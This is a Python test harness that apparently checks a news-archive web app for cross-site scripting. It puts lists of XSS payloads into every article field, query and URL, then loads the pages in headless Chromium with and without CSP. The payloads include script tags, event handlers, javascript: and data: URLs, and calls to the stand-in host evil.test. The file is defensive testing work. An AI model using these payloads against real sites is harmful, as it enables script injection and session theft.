"""Try to bring code into the pages, in a real browser: every payload in every field, query, address and error.

    python -m bench.markup [--payloads N]

Builds an archive in which each article holds one payload in all of its fields, serves it, and has Chromium open what
shows it: results, articles, quotes, speakers, errors, and JSON as a page. All of it twice, the second time as if there
were no Content-Security-Policy, so that what escaping lets through is not caught by the policy alone. Links to
``javascript:`` are looked for, and elements and attributes that no template of Morgue's has. Exits with 1 if anything
runs, asks another host, or gets into the markup.
"""

from __future__ import annotations

import argparse
import itertools
import shutil
import sys
import tempfile
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

from playwright.sync_api import Browser, Dialog, Error, Page, Route, sync_playwright

from bench.served import serving
from corpus import Article, Source
from index import Settings
from index.archive.build import rebuild
from search import SearchRequest, open_archive

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
PATIENCE = 60_000  # milliseconds
RUN = "window.pwned=1;alert(1)"
# What ends the place that a payload stands in: a text, an attribute, a comment, an element of plain text, JSON.
BREAKS = (
    "", '"', "'", '">', "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "--!>", "]]>", "</mark></p>",
    "\\", '"}', "\u2028", "&quot;>", "`", "%22%3E", "+ADw-",
)  # fmt: skip
VECTORS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<a id=x href='javascript:{RUN}'>x</a>",
    f" onmouseover={RUN} autofocus onfocus={RUN} x=",
    "<style>@import 'http://evil.test/x';body{background:url(http://evil.test/y)}</style>",
    "<link rel=stylesheet href=//evil.test/z><base href=//evil.test/><meta http-equiv=refresh content='0;//evil.test'>",
)
ODD = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"//evil.test/<script>{RUN}</script>",
    f"<\x00script>{RUN}</script>", f"\ufeff<script>{RUN}</script>", f"＜script＞{RUN}＜/script＞",
    f"\u202e<script>{RUN}</script>", f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f"<!-- --!><script>{RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<math><mi//xlink:href='javascript:{RUN}'>x</math>",
    f"<table background='javascript:{RUN}'>", f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    f"<object data='javascript:{RUN}'></object><embed src='javascript:{RUN}'>", "{{ 7 * 7 }}{% raw %}", "${7*7}#{7*7}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}",
    f"<xss style='animation-name:x' onanimationstart={RUN}>", f"<body onload={RUN}>", f"%00<script>{RUN}</script>",
)  # fmt: skip
PAYLOADS = (*ODD, *(f"{end}{vector}" for vector, end in itertools.product(VECTORS, BREAKS)))
FOREIGN = """() => {
  const ours = ['HTML','HEAD','META','TITLE','LINK','BODY','A','HEADER','MAIN','SECTION','NAV','ARTICLE','FORM','LABEL',
    'INPUT','BUTTON','SPAN','SELECT','OPTION','ASIDE','DETAILS','SUMMARY','H1','H2','UL','OL','LI','P','TIME','MARK',
    'CODE','BLOCKQUOTE','H3','EM','TEXTAREA','THEAD','TH','STRONG','FOOTER','DL','DT','DD','TABLE','TBODY','TR','TD','PRE','DIV'];
  const found = window.pwned ? ['it ran'] : [];
  for (const element of document.querySelectorAll('*')) {
    const drawn = element.closest('figure.timeline');
    const script = element.tagName === 'SCRIPT' && element.getAttribute('src') === '/static/morgue.js';
    if (script && !element.textContent) continue;
    if (!drawn && !ours.includes(element.tagName.toUpperCase())) found.push(element.tagName);
    for (const {name, value} of element.attributes) {
      if (name.startsWith('on') || name === 'style' || name === 'srcdoc' || name === 'http-equiv') found.push(name);
      if (['href', 'src', 'action', 'formaction'].includes(name)) {
        const scheme = new URL(value, location.href).protocol;
        if (!['http:', 'https:'].includes(scheme)) found.push(value);
      }
    }
  }
  return found;
}"""


def articles(payloads: Sequence[str]) -> Iterator[Article]:
    """An article for each payload, which has it wherever a text may stand, and an earlier version of it."""
    for number, payload in enumerate(payloads):
        article = Article(
            f"{number}/{payload}", Source(f"{payload}.txt", payload), f"walrus {payload}",
            (f"“{payload} walrus,” said Ada {payload} Quill.", f"{payload} said: “I am {payload}.”"),
            deck=payload, byline=(payload,), dateline=payload, section=payload, tags=(payload,), captions=(payload,),
            url=payload if number % 2 else f"http://news.test/{payload}", published_how=payload,
            published=date(2024, 1, 1 + number % 28),
        )  # fmt: skip
        yield from (article, replace(article, headline=f"gull {payload}", published=date(2023, 1, 1)))


def paths(payloads: Sequence[str], archive: Path) -> Iterator[str]:
    """What to open: all that shows a payload."""
    opened = open_archive(archive)
    pages = -(-len(payloads) // 20)
    yield from ("/", *(f"/?q=walrus&page={page}" for page in range(1, pages + 1)))
    yield from (f"/quotes?q=walrus&page={page}" for page in range(1, pages + 1))
    yield from (f"/api/search?q=walrus&size=100&page={page}" for page in range(1, 1 + -(-len(payloads) // 100)))
    yield from ("/api/quotes?q=walrus&size=100", "/api/speakers?limit=1000")
    for hit in _all_hits(opened):
        yield from (f"/articles/{quote(hit.id, safe='')}?q=walrus{version}" for version in ("", "&version=1"))
        yield f"/api/articles/{quote(hit.id, safe='')}"
    for speaker in opened.speakers("", 1_000):
        yield f"/speakers/{quote(speaker.key, safe='')}"
    for payload in payloads:
        value = quote(payload, safe="")
        yield "/?" + urlencode({"q": payload, "section": payload, "byline": payload})
        yield "/?" + urlencode({"q": f"published:'{payload}'"})
        yield "/?" + urlencode({payload: payload, "page": payload})
        yield "/?" + urlencode({"q": "walrus", "compare": payload, "exclude_section": payload})
        yield "/many?" + urlencode({"list": payload})
        yield f"/articles/{value}?" + urlencode({"version": payload})
        yield "/quotes?" + urlencode({"q": payload, "speaker": payload})
        yield from (f"/{value}", f"/articles/{value}", f"/speakers/{value}", f"/api/{value}", f"/api/articles/{value}")
        yield "/api/search?" + urlencode({"q": payload, "sort": payload})
        yield "/api/search?" + urlencode({payload: payload})


def _all_hits(archive: Any) -> Iterator[Any]:
    for page in itertools.count(1):
        hits = archive.search(SearchRequest("walrus", page=page, size=100, facets=False)).hits
        if not hits:
            return
        yield from hits


class Attack:
    """A page in a browser that is shown one address after another, and what got through."""

    def __init__(self, browser: Browser, base: str, without_policy: bool) -> None:
        self.found: list[str] = []
        self._base, self._kind = base, "without policy" if without_policy else "with policy"
        context = browser.new_context(bypass_csp=without_policy)
        context.route("**/*", self._asked)
        self._page: Page = context.new_page()
        self._page.set_default_timeout(PATIENCE)
        self._page.on("dialog", self._dialog)
        self._page.on("popup", lambda _: self._note("a window"))
        self._page.on("download", lambda _: self._note("a download"))
        self._path = ""

    def open(self, path: str, **parameters: str) -> None:
        """Open an address of the server."""
        path += "?" + urlencode(parameters) if parameters else ""
        self._path = path
        answer = self._page.goto(self._base + path, wait_until="load")
        if answer and answer.status >= 500:  # noqa: PLR2004
            self._note(str(answer.status))
        try:
            for what in self._page.evaluate(FOREIGN):
                self._note(what)
        except Error:  # whatever it looked at is gone
            self._note("it went elsewhere")

    def _asked(self, route: Route) -> None:
        if route.request.url.startswith(self._base + "/"):
            route.continue_()
        else:
            self._note(f"asked {route.request.url}")
            route.abort()

    def _dialog(self, dialog: Dialog) -> None:
        self._note("a dialog")
        dialog.dismiss()

    def _note(self, what: str) -> None:
        self.found.append(f"{self._kind}, {self._path}: {what}")


def attack(payloads: Sequence[str], folder: Path) -> tuple[int, list[str]]:
    """How many pages were opened, and what got through."""
    archive = folder / "archive"
    rebuild(articles(payloads), archive, Settings())
    addresses = list(paths(payloads, archive))
    found: list[str] = []
    with serving(archive) as (port, _), sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        for without_policy in (False, True):
            attacked = Attack(browser, f"http://127.0.0.1:{port}", without_policy)
            for path in addresses:
                attacked.open(path)
            found += attacked.found
        browser.close()
    return 2 * len(addresses), found


def main(arguments: Sequence[str] | None = None) -> int:
    """Attack and print; 1 if anything got through."""
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--payloads", type=int, default=len(PAYLOADS), help="how many (default: all %(default)s)")
    options = parser.parse_args(arguments)
    with tempfile.TemporaryDirectory(prefix="bench-") as folder:
        pages, found = attack(PAYLOADS[: options.payloads], Path(folder))
    print(*found[:50], sep="\n")
    print(f"{options.payloads} payloads on {pages:,} pages: {len(found)} got through")
    return 1 if found else 0


if __name__ == "__main__":
    sys.exit(main())
